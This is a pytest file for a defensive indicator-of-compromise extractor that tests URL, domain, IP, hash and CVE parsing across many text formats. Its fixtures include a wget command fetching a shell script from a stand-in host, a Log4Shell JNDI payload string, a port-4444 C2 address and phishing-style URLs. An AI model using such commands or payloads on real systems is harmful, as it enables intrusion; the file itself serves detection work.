"""Indicators as they appear in field text: Markdown, CSV, userinfo URLs, odd schemes,
derived hosts, glued and punctuated forms, variants, placeholders (issue 11).

Each class's labelled cases also live in tests/enrichment/corpus/indicators (tuning) and
tests/enrichment/heldout/indicators (measured); ``bench/indicator_cases.py`` scores them.
"""

from __future__ import annotations

import io
import json

from articles.enrichment.cli import run_extract
from articles.enrichment.indicators import IndicatorExtractor
from articles.enrichment.types import Document, DroppedCandidate
from tests.enrichment.hostile_inputs import HOSTILE, extraction_seconds, megabyte

EXTRACTOR = IndicatorExtractor(warninglists=False)


def written(text: str) -> set[tuple[str, str]]:
    """(type, value) of every finding that was written, not derived."""
    return {(f.type, f.value) for f in EXTRACTOR.run(Document(text)) if f.derived_from is None}


def spans_are_faithful(text: str) -> bool:
    return all(text[f.start : f.end] == f.matched for f in EXTRACTOR.run(Document(text)))


# --- Markdown, wiki links, brackets, quotes and trailing junk ----------------------


def test_a_markdown_link_whose_text_is_its_url_gives_two_urls_not_one_glued() -> None:
    text = "[https://cdn-files.com/p.png](https://cdn-files.com/p.png)"
    urls = [f for f in EXTRACTOR.run(Document(text)) if f.type == "url"]
    url = "https://cdn-files.com/p.png"
    assert [(f.value, f.matched) for f in urls] == [(url, url), (url, url)]
    assert spans_are_faithful(text)


def test_a_csv_tail_is_not_part_of_the_url() -> None:
    assert ("url", "http://stat-cdn.com/gate.php") in written("http://stat-cdn.com/gate.php,True,2024-01-02")


def test_a_wiki_link_pipe_and_a_table_cell_end_the_url() -> None:
    assert ("url", "https://wiki-c2.top/page") in written("[[https://wiki-c2.top/page|the panel]]")
    assert ("url", "https://f.xyz/x.zip") in written("| https://f.xyz/x.zip | online |")


def test_angle_brackets_quotes_and_parentheses_around_a_url_are_dropped() -> None:
    for wrapped in ("<{}>", "({})", '"{}"', "'{}'", "[{}]", "{};", "{},"):
        assert ("url", "https://relay.gate.info/api") in written(
            wrapped.format("https://relay.gate.info/api")
        )


def test_balanced_parentheses_inside_a_url_path_are_kept() -> None:
    url = "https://en.wikipedia.org/wiki/Foo_(bar)"
    assert ("url", url) in written(f"(see {url}).")


# --- Userinfo URLs and e-mail addresses ----------------------------------------


def test_a_url_with_user_and_password_is_a_url_not_an_email() -> None:
    found = written("Config: http://admin:Passw0rd@panel.botcontrol.net:8080/ is the panel.")
    assert found == {("url", "http://admin:Passw0rd@panel.botcontrol.net:8080/")}


def test_an_arrow_before_an_address_is_not_part_of_it() -> None:
    assert written("Mail log: ==>ops@corp-mailer.com delivered") == {("email", "ops@corp-mailer.com")}


def test_an_address_at_an_ip_literal_is_an_email() -> None:
    text = "Replies went to user@[203.0.113.77] directly."
    assert written(text) == {("email", "user@[203.0.113.77]")}
    assert spans_are_faithful(text)


# --- Scheme-less URLs with a path, scheme spellings, non-web schemes ---------------


def test_a_host_followed_by_a_path_is_a_url_without_a_scheme() -> None:
    text = "wget raw.Pastes-Host.com/u/x.sh -O /tmp/x.sh"
    assert written(text) == {("url", "raw.pastes-host.com/u/x.sh")}
    assert spans_are_faithful(text)


def test_a_network_in_cidr_notation_is_an_address_not_a_url() -> None:
    assert written("block 45.133.1.0/24 now") == {("ipv4", "45.133.1.0")}


def test_file_paths_and_names_are_still_not_urls() -> None:
    assert written("The installer is setup.py; see docs/index.html and /usr/lib/x.so.") == set()


def test_obfuscated_scheme_spellings_are_refanged() -> None:
    for spelling in ("h**p", "h__p", "ht*p", "hxxp", "hXXp", "HXXP"):
        assert written(f"{spelling}://malware-drop.net/a.exe") == {("url", "http://malware-drop.net/a.exe")}
    assert written("hXXps[:]//docs-view.com/v") == {("url", "https://docs-view.com/v")}


def test_non_web_schemes_are_urls() -> None:
    assert written("tcp://45.61.136.8:4444") == {("url", "tcp://45.61.136.8:4444")}
    assert written("ssh://root@172.105.44.9:22") == {("url", "ssh://root@172.105.44.9:22")}
    assert written("SFTP://Drop.cold-storage.io/in/") == {("url", "sftp://drop.cold-storage.io/in/")}
    assert written("udp://8.8.8.8:53") == {("url", "udp://8.8.8.8:53")}
    assert written("C2 over wss://feed.sock-relay.net:443/ws") == {
        ("url", "wss://feed.sock-relay.net:443/ws")
    }
    # Log4Shell's JNDI lookup: the scheme is part of the URL, the "}" is not.
    assert written("${jndi:ldap://log4j-check.xyz-svc.ru:1389/Exploit}") == {
        ("url", "ldap://log4j-check.xyz-svc.ru:1389/Exploit")
    }


def test_a_url_escaped_in_json_is_unescaped() -> None:
    text = '{"next":"http:\\/\\/panel.acroupd-c2.ru\\/gate2.php","sleep":300}'
    assert written(text) == {("url", "http://panel.acroupd-c2.ru/gate2.php")}
    assert (
        "domain",
        "panel.acroupd-c2.ru",
        "panel.acroupd-c2.ru",
        "http://panel.acroupd-c2.ru/gate2.php",
    ) in derived(text)
    assert spans_are_faithful(text)


def test_a_url_in_another_urls_query_is_a_url_of_its_own() -> None:
    text = "Open redirect: hxxps://t[.]co/x?r=https://wallet-connect-sync.app/claim in DMs"
    assert written(text) == {
        ("url", "https://t.co/x?r=https://wallet-connect-sync.app/claim"),
        ("url", "https://wallet-connect-sync.app/claim"),
    }
    assert spans_are_faithful(text)
    # Percent-encoded, it stays part of the query.
    assert written("https://a-b.com/x?u=https%3A%2F%2Fc-d.com%2F") == {
        ("url", "https://a-b.com/x?u=https%3A%2F%2Fc-d.com%2F")
    }


def test_an_emoji_glued_to_a_url_is_not_part_of_it_but_letters_of_any_script_are() -> None:
    assert written("live\u27a1\ufe0fhxxps://wf-secure-alerts[.]com/verify\U0001f4f2 now") == {
        ("url", "https://wf-secure-alerts.com/verify")
    }
    assert written("https://ru.news-site.com/\u043d\u043e\u0432\u043e\u0441\u0442\u0438") == {
        ("url", "https://ru.news-site.com/\u043d\u043e\u0432\u043e\u0441\u0442\u0438")
    }


def test_a_protocol_relative_url_is_a_url_without_a_scheme() -> None:
    text = "<script src='//cdnjs.cloudflare-static.net/ajax/libs/jquery.min.js'></script>"
    assert ("url", "cdnjs.cloudflare-static.net/ajax/libs/jquery.min.js") in written(text)


def test_the_host_after_an_unknown_scheme_is_a_domain() -> None:
    assert written("news://x-evil.com/a") == {("domain", "x-evil.com")}


def test_a_leading_dot_or_wildcard_opens_a_domain_but_not_a_public_suffix() -> None:
    text = "DestinationHostname|endswith:\n  - '.duckdns.org'\n  - '*.evil-dyn.net'\n  - '.co.uk'"
    assert written(text) == {("domain", "duckdns.org"), ("domain", "evil-dyn.net")}
    assert written("/etc/app/config.com and a/b.com and ..evil.org") == set()


def test_a_defanged_name_in_a_regular_expression_is_a_domain() -> None:
    assert written("$gate = /gate\\.cdn-telemetry-sync\\.net/ ascii") == {
        ("domain", "gate.cdn-telemetry-sync.net")
    }


def test_a_double_dash_after_a_host_is_a_dash_not_part_of_it() -> None:
    assert written("Contact--ransom@onionmail.org--for the key") == {("email", "ransom@onionmail.org")}
    assert written("see evil-host.com--the C2") == {("domain", "evil-host.com")}
    assert written("xn--80ak6aa92e.xn--p1ai") == {("domain", "xn--80ak6aa92e.xn--p1ai")}


def test_a_digest_a_pdf_broke_across_two_lines_is_joined() -> None:
    sha1 = "9986bd3d2c34fbb98b76778254fb83af5b15c97c"
    sha256 = "b381913ab08273988a13e9d8d4d1f77ce0e0f49b213210d060580142986bd628"
    text = f"loader (SHA-1 {sha1[:20]}\n{sha1[20:]}) and\nSHA-256 {sha256[:34]}-\n{sha256[34:]} beacons"
    assert written(text) == {("sha1", sha1), ("sha256", sha256)}
    assert spans_are_faithful(text)
    # Two lines that are each a digest stay two digests; a UUID is no digest.
    assert written(f"{sha256}\n{sha256}") == {("sha256", sha256)}
    assert written("id 5d0092c5-5f74-4287-9642-33f4c354e56d") == set()


# --- Derived hosts ---------------------------------------------------------------


def derived(text: str) -> list[tuple[str, str, str, str | None]]:
    return [
        (f.type, f.value, f.matched, f.derived_from)
        for f in EXTRACTOR.run(Document(text))
        if f.derived_from is not None
    ]


def test_a_urls_ip_is_reported_once_as_derived_from_the_url() -> None:
    text = "GET http://192.0.2.61/x.php"
    assert derived(text) == [("ipv4", "192.0.2.61", "192.0.2.61", "http://192.0.2.61/x.php")]
    assert spans_are_faithful(text)


def test_a_defanged_urls_host_keeps_its_written_span() -> None:
    assert derived("hxxps://drop[.]bad-files[.]ru/s.bin") == [
        ("domain", "drop.bad-files.ru", "drop[.]bad-files[.]ru", "https://drop.bad-files.ru/s.bin")
    ]


def test_an_emails_domain_and_an_ip_literal_are_derived() -> None:
    assert derived("hr@payroll-update.com") == [
        ("domain", "payroll-update.com", "payroll-update.com", "hr@payroll-update.com")
    ]
    assert derived("user@[203.0.113.77]") == [("ipv4", "203.0.113.77", "203.0.113.77", "user@[203.0.113.77]")]


def test_an_ipv6_literal_in_a_url_is_derived_without_brackets() -> None:
    assert derived("http://[2001:db8:4::1]:8080/c") == [
        ("ipv6", "2001:db8:4::1", "[2001:db8:4::1]", "http://[2001:db8:4::1]:8080/c")
    ]


def test_a_host_written_alone_is_not_marked_derived() -> None:
    findings = EXTRACTOR.run(Document("C2 evil-c2.com and http://evil-c2.com/gate"))
    assert [(f.type, f.derived_from) for f in findings] == [
        ("domain", None),
        ("url", None),
        ("domain", "http://evil-c2.com/gate"),
    ]


# --- Glued and punctuated forms ----------------------------------------------------

SHA256 = "5f2b7c9e1a3d4c6b8e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d"


def test_an_address_glued_to_letters_is_found() -> None:
    assert written("host10.2.3.4port was the beacon") == {("ipv4", "10.2.3.4")}
    assert written("conn_to45.137.22.101:443ok") == {("ipv4", "45.137.22.101")}


def test_a_version_glued_to_v_or_build_is_not_an_address() -> None:
    assert written("v1.2.3.4 and build10.0.19041.1") == set()


def test_the_second_number_of_a_version_range_is_not_an_address() -> None:
    assert written("Versions 1.2.3.4 through 1.2.3.9 are affected.") == set()


def test_a_defanged_address_wrapped_in_punctuation_is_found() -> None:
    assert written("!!8[.]8[.]4[.]4??") == {("ipv4", "8.8.4.4")}


def test_a_hash_between_underscores_or_glued_to_a_word_is_found() -> None:
    assert written(f"sample_{SHA256}_unpacked.exe") == {("sha256", SHA256)}
    assert written(f"sha256:{SHA256}") == {("sha256", SHA256)}
    assert written(f"hash{SHA256}") == {("sha256", SHA256)}


def test_indicators_after_bullets_in_tables_quotes_and_parentheses_are_found() -> None:
    text = f'• bad-one.com\n- {SHA256}\n| 91.92.240.55 | c2 |\n"update-check.live" (77.91.68.12)'
    assert written(text) == {
        ("domain", "bad-one.com"),
        ("sha256", SHA256),
        ("ipv4", "91.92.240.55"),
        ("domain", "update-check.live"),
        ("ipv4", "77.91.68.12"),
    }


# --- Variants: CVE spellings, leading zeros, IPv6 forms, look-alike dots ------------


def test_cve_ids_written_with_a_space_underscores_or_unicode_hyphens_are_normalized() -> None:
    assert written("EternalBlue (CVE 2017-0144) is back.") == {("cve", "CVE-2017-0144")}
    assert written("tag cve_2021_44228 and detect_cve_2022_30190.yml") == {
        ("cve", "CVE-2021-44228"),
        ("cve", "CVE-2022-30190"),
    }
    assert written("CVE\u20112021\u201144228, CVE\u22122023\u221234362, CVE\uff0d2024\uff0d3400") == {
        ("cve", "CVE-2021-44228"),
        ("cve", "CVE-2023-34362"),
        ("cve", "CVE-2024-3400"),
    }


def test_a_cve_glued_to_a_letter_is_not_one() -> None:
    assert written("xCVE-2021-44228 and CVE 20171-0144") == set()


def test_ipv4_with_leading_zeros_is_normalized_and_flagged() -> None:
    [finding] = EXTRACTOR.run(Document("Beacon to 010.001.002.003 was seen."))
    assert (finding.value, finding.matched) == ("10.1.2.3", "010.001.002.003")
    assert finding.note == "leading zeros removed; octets read as decimal"


def test_ipv6_in_its_written_forms_is_found_and_compressed() -> None:
    assert written("2001:db8:0:0:1:0:0:1, [2001:db8::2]:443 and 2001:DB8::A:B:C:D") == {
        ("ipv6", "2001:db8::1:0:0:1"),
        ("ipv6", "2001:db8::2"),
        ("ipv6", "2001:db8::a:b:c:d"),
    }
    link_local = "fe80::1ff:fe23:4567:890a"
    assert written(f"Link-local {link_local}%eth0 answered") == {("ipv6", link_local)}
    assert written("::ffff:198.51.100.9") == {("ipv6", "::ffff:198.51.100.9")}


def test_full_width_and_look_alike_dots_are_refanged() -> None:
    text = "C2 evil\uff0eexample-c2\uff0ecom, cdn\u3002bad-host\u3002net and 192\uff0e168\uff0e1\uff0e50"
    assert written(text) == {
        ("domain", "evil.example-c2.com"),
        ("domain", "cdn.bad-host.net"),
        ("ipv4", "192.168.1.50"),
    }
    assert spans_are_faithful(text)
    assert all(f.defanged for f in EXTRACTOR.run(Document(text)))


# --- Placeholders, and why a candidate was dropped ----------------------------------


def dropped(text: str) -> list[tuple[str, str, str]]:
    reasons: list[DroppedCandidate] = []
    EXTRACTOR.run(Document(text), reasons)
    assert all(text[d.start : d.end] == d.matched for d in reasons)
    return [(d.type, d.matched, d.reason) for d in reasons]


def test_placeholder_hashes_are_dropped_with_a_visible_reason() -> None:
    text = f"md5 {'a' * 32}, sha1 {'0' * 40}, sha256 {'deadbeef' * 8}, {'0123456789abcdef' * 2}"
    assert written(text) == set()
    assert [(t, reason) for t, _, reason in dropped(text)] == [
        ("md5", "placeholder"),
        ("sha1", "placeholder"),
        ("sha256", "placeholder"),
        ("md5", "placeholder"),
    ]


def test_redacted_addresses_are_dropped_as_placeholders() -> None:
    text = "IP x.x.x.x, XXX.XXX.XXX.XXX and 192.168.x.x are redacted"
    assert written(text) == set()
    assert dropped(text) == [
        ("ipv4", "x.x.x.x", "placeholder"),
        ("ipv4", "XXX.XXX.XXX.XXX", "placeholder"),
        ("ipv4", "192.168.x.x", "placeholder"),
    ]


def test_a_real_hash_beside_a_placeholder_is_kept() -> None:
    assert written(f"real {SHA256} fake {'f' * 64}") == {("sha256", SHA256)}


def test_a_version_number_is_dropped_with_its_reason() -> None:
    assert dropped("version 1.2.3.4") == [("ipv4", "1.2.3.4", "version number")]


def test_extract_explain_lists_dropped_candidates() -> None:
    out = io.StringIO()
    run_extract(io.BytesIO(b"C2 x.x.x.x and evil-c2.com"), out, explain=True)
    result = json.loads(out.getvalue())
    assert [i["value"] for i in result["indicators"]] == ["evil-c2.com"]
    assert result["dropped"] == [
        {
            "start": 3,
            "end": 10,
            "type": "ipv4",
            "value": "x.x.x.x",
            "matched": "x.x.x.x",
            "reason": "placeholder",
        }
    ]


# --- Linear time on hostile input ---------------------------------------------------


def test_a_megabyte_of_each_hostile_form_is_extracted_in_linear_time() -> None:
    for name, piece in HOSTILE.items():
        # The better of two runs. The target, 1 s a megabyte, is timed by
        # bench/indicators_speed.py (0.02-0.5 s on a slow machine); the bound here only has
        # to catch a quadratic path, which takes minutes, without failing on a loaded one.
        assert extraction_seconds(EXTRACTOR, megabyte(piece)) < 5.0, name


def test_userinfo_of_a_url_with_another_scheme_is_not_an_email() -> None:
    text = "smtp://mailer:Qwerty123@smtp.mail-relay.com:587"
    assert written(text) == {("domain", "smtp.mail-relay.com")}


def test_a_bare_host_with_a_port_and_a_path_is_a_url() -> None:
    assert written("The panel answered on upd-gate.com:8080/gate.php until May.") == {
        ("url", "upd-gate.com:8080/gate.php")
    }


def test_a_full_width_at_sign_is_refanged() -> None:
    assert written("Replies went to ops\uff20corp-mail.com instead.") == {("email", "ops@corp-mail.com")}


def test_a_dash_bullet_glued_to_a_host_at_a_line_start_is_not_part_of_it() -> None:
    assert written("Blocklist:\n-evil-one.com\n-evil-two.net") == {
        ("domain", "evil-one.com"),
        ("domain", "evil-two.net"),
    }
    assert written("run it with -config.com too") == set()


def test_spans_stay_faithful_over_random_mixes_of_the_new_forms() -> None:
    import random

    rng = random.Random(1106)
    pieces = [*HOSTILE.values(), " ", "\n", "](", "@", "[@]", "\uff20", ":8080", "/x", "010.", "CVE\u2011"]
    for _ in range(300):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 40)))
        findings = EXTRACTOR.run(Document(text))
        assert all(text[f.start : f.end] == f.matched for f in findings), text
        assert all(f.derived_from is None or f.type in ("domain", "ipv4", "ipv6") for f in findings)


def test_file_names_and_missing_spaces_are_explained() -> None:
    assert dropped("Run setup.py, read README.md; the attack ended.It was over.") == [
        ("domain", "setup.py", "file name"),
        ("domain", "README.md", "file name"),
        ("domain", "ended.It", "missing space after a full stop"),
    ]


def test_a_defanged_slash_is_refanged_in_urls_with_and_without_a_scheme() -> None:
    text = "Stage one: hxxp://cdn-stage[.]net[/]s1[/]run.ps1 then evil-two[.]org[/]s2.bin"
    assert written(text) == {("url", "http://cdn-stage.net/s1/run.ps1"), ("url", "evil-two.org/s2.bin")}
    assert spans_are_faithful(text)


def test_guillemets_and_corner_brackets_around_a_url_are_not_part_of_it() -> None:
    text = "«Su paquete está retenido, pague en hxxps://correos-envio[.]es/pago». 「http://a-b.jp/x」"
    assert written(text) == {("url", "https://correos-envio.es/pago"), ("url", "http://a-b.jp/x")}
    assert spans_are_faithful(text)


def test_the_backslash_escaping_a_quote_after_a_url_in_json_is_not_part_of_it() -> None:
    text = '{"content":"<a href=\\"https://share-point.web.app/doc/Q1.html\\" rel=\\"x\\">"}'
    assert written(text) == {("url", "https://share-point.web.app/doc/Q1.html")}


def test_an_escaped_line_break_after_a_url_ends_it() -> None:
    # iCalendar text (RFC 5545) and JSON strings write line breaks as a backslash and "n".
    text = "DESCRIPTION:Review before the call:\\n https://hr-docs.example-portal.com/l/k.html\\n\\nJoin"
    assert written(text) == {("url", "https://hr-docs.example-portal.com/l/k.html")}
    assert spans_are_faithful(text)
    assert written('{"msg":"see http://evil-cdn.net/a.php\\tnext"}') == {("url", "http://evil-cdn.net/a.php")}


def test_an_ipv6_literal_in_a_mail_header_is_an_address() -> None:
    text = "Received: from [IPv6:2a02:8084:a1c0:4e80:d91c:3b7e:90af:12c4] (unknown [77.75.230.18])"
    assert written(text) == {
        ("ipv6", "2a02:8084:a1c0:4e80:d91c:3b7e:90af:12c4"),
        ("ipv4", "77.75.230.18"),
    }
    # Only that tag opens one: a word glued to the colon still does not.
    assert written("see host:2a02:8084:a1c0:4e80:d91c:3b7e:90af:12c4") == set()


def test_a_url_cut_by_a_quoted_printable_soft_break_is_followed_and_decoded() -> None:
    text = (
        '<a href=3D"https://login.example-365.com/?e=3Dap%40harbor=\nline.net" style=3D"x">'
        "https://login.microsoftonline.com/common/oau=\r\nth2/authorize</a>"
    )
    assert written(text) == {
        ("url", "https://login.example-365.com/?e=ap%40harborline.net"),
        ("url", "https://login.microsoftonline.com/common/oauth2/authorize"),
    }
    assert spans_are_faithful(text)


def test_outside_quoted_printable_text_a_line_ending_in_equals_ends_the_url() -> None:
    text = "See https://a-b.com/q?x=\nnext-line.net"
    assert written(text) == {("url", "https://a-b.com/q?x="), ("domain", "next-line.net")}


def test_quoted_printable_soft_breaks_stay_linear() -> None:
    text = "=3D " + "http://a-b.com/p=\n" * 50_000
    assert extraction_seconds(EXTRACTOR, text) < 5
